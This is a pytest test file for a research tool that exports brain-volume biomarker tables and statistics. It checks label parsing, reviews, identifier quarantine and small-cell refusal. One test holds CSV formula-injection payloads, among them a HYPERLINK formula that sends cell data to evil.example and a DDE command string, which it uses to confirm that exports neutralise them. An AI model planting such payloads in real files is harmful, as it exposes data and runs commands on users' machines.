"""Biomarker tables, group statistics and reviews, on an index written directly (no images)."""

from __future__ import annotations

import datetime as dt
import json
import math
from collections.abc import Iterator
from pathlib import Path

import pytest
from PIL import Image

from cohortflow.flows.cli import main
from cohortflow.models.database import IndexDB, open_index
from cohortflow.models.errors import ExportError, ReviewError
from cohortflow.models.export import (
    COLUMNS,
    biomarker_table,
    read_labels,
    read_table,
    write_table,
)
from cohortflow.models.outcomes import protocol_outcome
from cohortflow.models.reviews import OVERRIDE, REJECT, record_review
from cohortflow.models.runs import DONE, StepRecord, record_step
from cohortflow.models.schema import AuditEntry, Patient, Series, Study
from cohortflow.models.stages import BiomarkerRecord, record_biomarkers
from cohortflow.models.volumes import VOLUME_NAMES, Volumes
from cohortflow.pipelines.export.errors import StatsError
from cohortflow.pipelines.export.stats import compare, longitudinal
from cohortflow.pipelines.run.outcome import usable_biomarkers
from tests.review_helpers import Cohort, build


@pytest.fixture
def home(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.setenv("COHORTFLOW_HOME", str(tmp_path / "home"))
    return tmp_path / "home"


@pytest.fixture
def index(home: Path) -> Iterator[IndexDB]:
    db = open_index(f"sqlite:///{home / 'index.sqlite'}")
    yield db
    db.dispose()


@pytest.fixture
def cohort(index: IndexDB) -> Cohort:
    return build(index)


def _labels(tmp_path: Path, cohort: Cohort) -> Path:
    path = tmp_path / "clinical.csv"
    path.write_text(cohort.labels_csv())
    return path


def test_the_table_has_one_row_per_measured_t1_with_labels_and_no_identifier(
    tmp_path: Path, index: IndexDB, cohort: Cohort
) -> None:
    labels = read_labels(_labels(tmp_path, cohort))
    with index.session() as session:
        table = biomarker_table(session, "dementia", labels)
    measured = [s for s in cohort.subjects if s.failed is None]
    assert len(table.rows) == len(measured) == 32
    assert table.labels_matched == 32 and table.labels_unmatched == 8  # the failed ones
    by_series = {r.series: r for r in table.rows}
    for s in measured:
        row = by_series[s.pseudo_series]
        assert (row.pseudonym, row.study, row.age, row.sex) == (
            s.pseudonym,
            s.pseudo_study,
            s.age,
            s.sex,
        )
        assert (row.scanner, row.field_strength) == (s.scanner, s.tesla)
        # exactly the index's values
        assert (row.volumes.icv_ml, row.volumes.brain_ml) == (s.icv, s.brain)
        assert row.labels == {"diagnosis": s.diagnosis}
        assert (row.qc_verdict, row.usable, row.review) == ("pass", True, None)
    assert max(r.age or 0 for r in table.rows) <= 90  # the oldest were born in the 1930s
    out = tmp_path / "table.csv"
    write_table(table, out, "csv")
    text = out.read_text()
    for value in cohort.planted:
        assert value not in text, value
    assert text.splitlines()[0].endswith(",diagnosis")


@pytest.mark.parametrize("fmt", ["csv", "parquet"])
def test_written_tables_read_back_with_the_index_values_exactly(
    tmp_path: Path, index: IndexDB, cohort: Cohort, fmt: str
) -> None:
    with index.session() as session:
        table = biomarker_table(session, None, read_labels(_labels(tmp_path, cohort)))
    path = tmp_path / f"t.{fmt}"
    write_table(table, path, fmt)
    back = read_table(path)
    assert [r["series"] for r in back] == [r.series for r in table.rows]
    for row, again in zip(table.rows, back, strict=True):
        for name in VOLUME_NAMES:
            assert again[name] == getattr(row.volumes, name)
        assert again["diagnosis"] == row.labels["diagnosis"]
        assert again["usable"] is True


def test_bad_label_files_are_refused_naming_the_file_and_line(tmp_path: Path) -> None:
    path = tmp_path / "labels.csv"
    path.write_text("patient,diagnosis\nA,dementia\n")
    with pytest.raises(ExportError, match=r"labels.csv has no accession number column"):
        read_labels(path)
    path.write_text("AccessionNumber,diagnosis\nA1,dementia\nA1,control\n")
    with pytest.raises(ExportError, match=r"labels.csv, line 3: the accession number of line 2"):
        read_labels(path)
    path.write_text("accession,diagnosis\n,dementia\n")
    with pytest.raises(ExportError, match=r"line 2: no accession number"):
        read_labels(path)
    path.write_text("accession,icv_ml\nA1,3\n")
    with pytest.raises(ExportError, match="rename them"):
        read_labels(path)
    with pytest.raises(ExportError, match="cannot read the labels file"):
        read_labels(tmp_path / "missing.csv")


def test_compare_finds_three_percent_atrophy_at_equal_icv_age_and_sex(
    tmp_path: Path, index: IndexDB, cohort: Cohort
) -> None:
    """The planted 3 % lower BPF, found by the linear model of each biomarker on the group and
    ICV, age and sex (tests/test_stats.py checks the numbers against statsmodels')."""
    with index.session() as session:
        rows = biomarker_table(session, None, read_labels(_labels(tmp_path, cohort))).records()
    result = compare(rows, "diagnosis")
    assert result.reference == "control" and result.covariates == ("icv", "age", "sex")
    bpf = next(b for b in result.biomarkers if b.biomarker == "bpf")
    assert bpf.covariates == ("age", "sex")  # a ratio: no ICV
    groups = {g.group: g for g in bpf.groups}
    assert (groups["control"].n, groups["dementia"].n) == (16, 16)
    contrast = bpf.contrasts[0]
    assert contrast.p_holm < 0.001 and contrast.percent == pytest.approx(-3, abs=1.0)
    assert contrast.ci_low < contrast.estimate < contrast.ci_high < 0
    assert contrast.cohens_d < -1.5
    # ICV in the model removes head size from brain volume: a clearer difference
    raw = compare(rows, "diagnosis", covariates=())
    brain_raw = next(b for b in raw.biomarkers if b.biomarker == "brain_ml").contrasts[0]
    brain = next(b for b in result.biomarkers if b.biomarker == "brain_ml")
    assert brain.adjusted and brain.contrasts[0].p_holm < min(brain_raw.p_holm, 0.001)
    assert result.slopes["brain_ml"] == pytest.approx(0.78, abs=0.05)
    with pytest.raises(StatsError, match="no column 'sex2'"):
        compare(rows, "sex2")
    with pytest.raises(StatsError, match="at least two groups of two"):
        compare(rows[:1], "diagnosis")


def test_reviews_count_in_rates_tables_and_biomarker_summaries(
    index: IndexDB, cohort: Cohort
) -> None:
    failed = next(s for s in cohort.subjects if s.failed == "image.snr")
    good = next(s for s in cohort.subjects if s.failed is None)
    with index.session() as session:
        before = protocol_outcome(session, "dementia")
        usable_before = len(usable_biomarkers(session, "dementia"))
        with pytest.raises(ReviewError, match="only a failed verdict can be overridden"):
            record_review(session, good.pseudo_series, OVERRIDE, "why", "rita", "pass", None)
        with pytest.raises(ReviewError, match="needs a comment"):
            record_review(session, good.pseudo_series, REJECT, "  ", "rita", "pass", None)
        record_review(session, good.pseudo_series, REJECT, "motion on review", "rita", "pass", None)
        record_review(
            session, failed.pseudo_series, OVERRIDE, "SNR fine by eye", "rita", "fail", "image.snr"
        )
    with index.session() as session:
        after = protocol_outcome(session, "dementia")
        usable_after = len(usable_biomarkers(session, "dementia"))
        table = {r.series: r for r in biomarker_table(session).rows}
        actions = [a.action for a in session.query(AuditEntry).all()]
    assert after.t1_with_biomarkers == before.t1_with_biomarkers - 1
    assert after.t1_reasons["review.rejected"] == 1
    # overridden but not measured yet: the next run measures it
    assert after.t1_reasons["review.override_not_yet_measured"] == 1
    assert after.t1_reasons["image.snr"] == before.t1_reasons["image.snr"] - 1
    assert usable_after == usable_before - 1
    assert (table[good.pseudo_series].review, table[good.pseudo_series].usable) == (REJECT, False)
    assert actions.count("review") == 2


def test_cli_export_and_compare_write_files_and_audit(
    tmp_path: Path, home: Path, index: IndexDB, cohort: Cohort, capsys: pytest.CaptureFixture[str]
) -> None:
    labels = _labels(tmp_path, cohort)
    out = tmp_path / "b.parquet"
    argv = ["export", "biomarkers", "--format", "parquet", "--labels", str(labels)]
    assert main([*argv, "--out", str(out), "--json"]) == 0
    report = json.loads(capsys.readouterr().out)
    assert (report["rows"], report["usable"], report["labels_unmatched"]) == (32, 32, 8)
    assert len(read_table(out)) == 32
    plot = tmp_path / "box.png"
    argv = ["stats", "compare", "--by", "diagnosis", "--labels", str(labels), "--adjust", "icv"]
    assert main([*argv, "--plot", str(plot), "--json"]) == 0
    result = json.loads(capsys.readouterr().out)
    brain = next(b for b in result["biomarkers"] if b["biomarker"] == "brain_ml")
    assert brain["adjusted"] and brain["contrasts"][0]["p"] < 0.001
    assert Image.open(plot).size[0] > 800
    # the same comparison from the exported file (--adjust icv is --covariates icv)
    argv = ["stats", "compare", "--by", "diagnosis", "--table", str(out), "--covariates", "icv"]
    assert main([*argv, "--json"]) == 0
    again = json.loads(capsys.readouterr().out)
    bpf_p = [next(b for b in r["biomarkers"] if b["biomarker"] == "bpf") for r in (result, again)]
    assert math.isclose(bpf_p[0]["contrasts"][0]["p"], bpf_p[1]["contrasts"][0]["p"])
    # human output and usage errors
    assert main(["stats", "compare", "--by", "diagnosis", "--labels", str(labels)]) == 0
    assert "Holm" in capsys.readouterr().out
    assert main(["stats", "compare", "--by", "nothing", "--labels", str(labels)]) == 2
    assert main(["export", "biomarkers", "--format", "parquet", "--out", "-"]) == 2
    assert main(["export", "biomarkers", "--labels", str(tmp_path / "none.csv")]) == 2
    with index.session() as session:
        exports = session.query(AuditEntry).filter(AuditEntry.action == "export.biomarkers")
        assert exports.count() == 1


def test_an_export_holding_an_identifier_is_quarantined_not_released(
    tmp_path: Path, home: Path, index: IndexDB, cohort: Cohort, capsys: pytest.CaptureFixture[str]
) -> None:
    """The release check (pipelines/release/scan.py) runs on every export: a label column that
    carries a patient's name (a statistician's note) keeps the file from being released."""
    subject = cohort.subjects[0]
    labels = tmp_path / "clinical.csv"
    rows = [f"{s.accession},{s.diagnosis}," for s in cohort.subjects[1:]]
    rows.append(f"{subject.accession},{subject.diagnosis},called Mrs Testname back")
    labels.write_text("accession_number,diagnosis,note\n" + "\n".join(rows) + "\n")
    out = tmp_path / "b.csv"
    argv = ["export", "biomarkers", "--labels", str(labels), "--out", str(out)]
    assert main(argv) == 1
    err = " ".join(capsys.readouterr().err.split())
    assert "release check" in err and "patient_name" in err and not out.exists()
    quarantined = list((home / "restricted" / "quarantine").iterdir())
    assert [p.name for p in quarantined] == ["b.csv"]
    assert main(["export", "biomarkers", "--labels", str(labels), "--out", "-"]) == 1
    assert capsys.readouterr().out == ""  # nothing reached the terminal
    # without the note the same export is released
    assert main(["export", "biomarkers", "--labels", str(_labels(tmp_path, cohort)),
                 "--out", str(out)]) == 0  # fmt: skip
    with index.session() as session:
        actions = [a.action for a in session.query(AuditEntry).all()]
    assert actions.count("release.quarantined") == 2


@pytest.mark.parametrize("fmt", ["csv", "parquet"])
def test_label_values_a_spreadsheet_would_run_are_neutralised_in_csv_only(
    tmp_path: Path, index: IndexDB, cohort: Cohort, fmt: str
) -> None:
    """Issue 23: a clinical label such as ``=HYPERLINK(...)`` or ``@SUM(...)`` is a formula when
    the CSV is opened in a spreadsheet; it is written with a leading apostrophe (OWASP), numbers
    (negative ones too) as they are; Parquet keeps the value; both read back as the label. (A
    leading tab or carriage return is neutralised too; the label reader strips them anyway.)"""
    hostile = [
        '=HYPERLINK("http://evil.example/?"&A1,"see")',
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "+1+2",
        "-2+3",
        "plain",
    ]
    lines = ["accession_number,diagnosis"]
    lines += [
        f'{s.accession},"{hostile[i % len(hostile)].replace(chr(34), chr(34) * 2)}"'
        for i, s in enumerate(cohort.subjects)
    ]
    labels = tmp_path / "labels.csv"
    labels.write_text("\n".join(lines) + "\n")
    with index.session() as session:
        table = biomarker_table(session, None, read_labels(labels))
    path = tmp_path / f"t.{fmt}"
    write_table(table, path, fmt)
    if fmt == "csv":
        import csv

        with path.open(newline="") as handle:
            cells = [v for row in csv.DictReader(handle) for v in row.values()]
        risky = [c for c in cells if c.startswith(("=", "+", "@", "\t", "\r"))]
        assert risky == []
        assert any(c.startswith("'=HYPERLINK") for c in cells)
        assert all(not c.startswith("-") or c.replace(".", "", 1)[1:].isdigit() for c in cells)
    back = read_table(path)
    assert {r["diagnosis"] for r in back} <= set(hostile)
    for row, again in zip(table.rows, back, strict=True):
        assert again["diagnosis"] == row.labels["diagnosis"]


def test_no_row_level_export_of_fewer_patients_than_the_smallest_cell(
    tmp_path: Path,
    home: Path,
    index: IndexDB,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """Issue 22: a biomarker table of fewer than ``cohort.min_cell_patients`` patients is not
    exported (a list of two patients' ages and scanners singles them out); the refusal is
    audited; a project that lowers its smallest cell exports it."""
    small = build(index, n=4)  # four patients, three measured
    out = tmp_path / "b.csv"
    assert main(["export", "biomarkers", "--out", str(out)]) == 2
    err = " ".join(capsys.readouterr().err.split())
    assert "fewer than the smallest cell (5" in err and not out.exists()
    with index.session() as session:
        refused = session.query(AuditEntry).filter(AuditEntry.action == "refused.export")
        assert refused.count() == 1
        assert (
            session.query(AuditEntry).filter(AuditEntry.action == "export.biomarkers").count() == 0
        )
    monkeypatch.setenv("COHORTFLOW_COHORT__MIN_CELL_PATIENTS", "2")
    assert main(["export", "biomarkers", "--out", str(out), "--json"]) == 0
    assert json.loads(capsys.readouterr().out)["rows"] == len(read_table(out)) > 0
    assert {r["series"] for r in read_table(out)} <= {s.pseudo_series for s in small.subjects}


# --- the table's time column, from the index ---------------------------------------------------


def _follow_up(index: IndexDB, cohort: Cohort, i: int, days: int, loss: float) -> str:
    """A second study of subject ``i`` ``days`` after the first, its brain ``loss`` smaller;
    returns its accession number."""
    s = cohort.subjects[i]
    study_uid, series_uid = f"1.2.826.0.1.99.{i}.9", f"1.2.826.0.1.99.{i}.9.1"
    accession = f"ACC{i:05d}F"
    with index.session() as session:
        patient = session.query(Patient).filter_by(patient_id=f"PID{i:05d}").one()
        first = session.query(Study).filter_by(accession_number=s.accession).one()
        assert first.study_date is not None
        study = Study(
            study_instance_uid=study_uid,
            patient_pk=patient.id,
            accession_number=accession,
            study_date=first.study_date + dt.timedelta(days=days),
        )
        session.add(study)
        session.flush()
        session.add(Series(series_instance_uid=series_uid, study_pk=study.id, modality="MR"))
        pseudo_series, pseudo_study = f"2.25.{9000 + i}", f"2.25.{9500 + i}"
        outputs = {"_linked_series": {series_uid: pseudo_series}}
        record_step(
            session, StepRecord("dementia", study_uid, "anonymize", "k", "v", DONE, outputs=outputs)
        )
        brain = s.brain * (1 - loss)
        gm = brain * 0.55
        volumes = Volumes(s.icv, gm, brain - gm, s.icv - brain, brain, brain / s.icv)
        record = BiomarkerRecord(
            pseudo_series,
            pseudo_study,
            volumes,
            "cohortflow-volumetry",
            "test-1",
            "pass",
            "normal",
            protocol="dementia",
        )
        record_biomarkers(session, [record])
    return accession


def test_the_table_gives_years_since_the_first_study_and_stats_use_them(
    tmp_path: Path, index: IndexDB, cohort: Cohort, capsys: pytest.CaptureFixture[str]
) -> None:
    measured = [i for i, s in enumerate(cohort.subjects) if s.failed is None][:8]
    for k, i in enumerate(measured):
        loss = 0.02 if cohort.subjects[i].diagnosis == "dementia" else 0.005
        _follow_up(index, cohort, i, 365 + 30 * k, loss)
    labels_path = tmp_path / "clinical.csv"
    labels_path.write_text(cohort.labels_csv())
    with index.session() as session:
        table = biomarker_table(session, None, read_labels(labels_path))
    assert COLUMNS.index("years_since_baseline") == COLUMNS.index("age") + 1
    years = {r.series: r.years_since_baseline for r in table.rows}
    assert years["2.25.9000"] == round(365 / 365.25, 4)
    assert years[cohort.subjects[0].pseudo_series] == 0.0
    for fmt in ("csv", "parquet"):  # the column reads back as a number
        path = tmp_path / f"t.{fmt}"
        write_table(table, path, fmt)
        back = {r["series"]: r for r in read_table(path)}
        assert back["2.25.9000"]["years_since_baseline"] == years["2.25.9000"]
        assert isinstance(back["2.25.9000"]["age"], int)
    rows = table.records()
    # the follow-ups, unlabelled, join their patient's group of the first study
    result = longitudinal(rows, "diagnosis")
    assert (result.patients, result.studies) == (8, 16)
    assert result.single_study_patients == len(table.rows) - 16
    assert compare(rows, "diagnosis").later_studies == 0  # unlabelled: no group of their own
    argv = ["stats", "longitudinal", "--labels", str(labels_path), "--by", "diagnosis"]
    assert main([*argv, "--json"]) == 0
    assert json.loads(capsys.readouterr().out)["patients"] == 8


def test_cli_export_reports_and_skips_a_conflicting_label_line(
    tmp_path: Path, index: IndexDB, cohort: Cohort, capsys: pytest.CaptureFixture[str]
) -> None:
    subject = cohort.subjects[0]
    other = "control" if subject.diagnosis == "dementia" else "dementia"
    labels = tmp_path / "clinical.csv"
    labels.write_text(cohort.labels_csv() + f"{subject.accession},{other}\n")
    out = tmp_path / "b.csv"
    argv = ["export", "biomarkers", "--labels", str(labels), "--out", str(out), "--json"]
    assert main(argv) == 2
    captured = capsys.readouterr()
    assert json.loads(captured.out)["error"]["kind"] == "usage"
    assert "line 42: the accession number of line 2 again" in " ".join(captured.err.split())
    assert not out.exists()
    assert main([*argv, "--skip-conflicting-labels"]) == 0
    captured = capsys.readouterr()
    report = json.loads(captured.out)
    assert report["labels_conflicting"] == [{"lines": [2, 42]}]
    assert "left unlabelled: lines 2, 42" in " ".join(captured.err.split())
    assert subject.accession not in captured.err + captured.out
    unlabelled = [r for r in read_table(out) if r["series"] == subject.pseudo_series]
    assert unlabelled[0]["diagnosis"] in ("", None)
    argv = ["stats", "compare", "--by", "diagnosis", "--labels", str(labels), "--json"]
    assert main(argv) == 2
    capsys.readouterr()
    assert main([*argv, "--skip-conflicting-labels"]) == 0
    report = json.loads(capsys.readouterr().out)
    assert report["labels_conflicting"] == [{"lines": [2, 42]}] and report["excluded"] == 1
